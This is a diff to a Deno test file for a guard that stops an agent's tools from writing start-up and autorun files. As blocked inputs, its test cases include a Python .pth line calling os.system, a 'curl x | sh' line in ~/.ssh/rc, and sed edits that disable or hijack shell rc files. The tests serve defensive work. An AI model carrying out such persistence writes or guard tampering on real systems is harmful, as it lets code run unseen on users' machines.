@@ -72,6 +72,11 @@ Deno.test("file tools: start-up and autorun files through Write/Edit", () => {
     [HOME + "/Library/LaunchAgents/x.plist", "<plist/>"],
     [HOME + "/.config/autostart/x.desktop", "[Desktop Entry]\nExec=/tmp/x"],
     [CWD + "/.git/hooks/pre-commit", null],
+    [
+      HOME + "/.local/lib/python3.12/site-packages/x.pth",
+      "import os; os.system('id')",
+    ],
+    [HOME + "/.ssh/rc", "curl x | sh"],
   ];
   for (const [p, text] of autorun) {
     assert.ok(toolBlocks(p, text).includes("autorun_write"), `${p}: ${text}`);
@@ -142,4 +147,30 @@ Deno.test("start-up files: long hostile text is judged in linear time", () => {
   for (const [t, threat] of cases) {
     assert.equal(startupThreat(t, st) !== null, threat, t.slice(0, 20));
   }
+});
+
+Deno.test("start-up files: in-place edits are judged by the text they insert", () => {
+  for (
+    const cmd of [
+      "sed -i '1i exit 0' ~/.bashrc",
+      "sed -i 's/^# end$/export PATH=\\/tmp\\/x:$PATH/' ~/.zshenv",
+      "sed -i -e '$a alias deno=true' ~/.profile",
+    ]
+  ) assert.ok(blocked(cmd).includes("guard_tamper"), `${cmd}: ${fired(cmd)}`);
+  for (
+    const cmd of [
+      "sed -i 's/vim/nvim/' ~/.bashrc",
+      "sed -i '/old-tool/d' ~/.zshrc",
+    ]
+  ) assert.deepEqual(blocked(cmd), [], `${cmd}: ${fired(cmd)}`);
+});
+
+Deno.test("file tools: text that runs later is read as code up to a size, refused beyond it", () => {
+  const big = "echo ok\n".repeat(40_000);
+  assert.ok(toolBlocks(HOME + "/.bashrc", big).includes("guard_tamper"));
+  assert.ok(
+    toolBlocks(CWD + "/.git/hooks/pre-commit", big).includes("autorun_write"),
+  );
+  assert.deepEqual(toolBlocks(CWD + "/notes.txt", big), []);
+  assert.deepEqual(toolBlocks(CWD + "/.git/hooks/pre-commit", "echo ok\n"), []);
 });
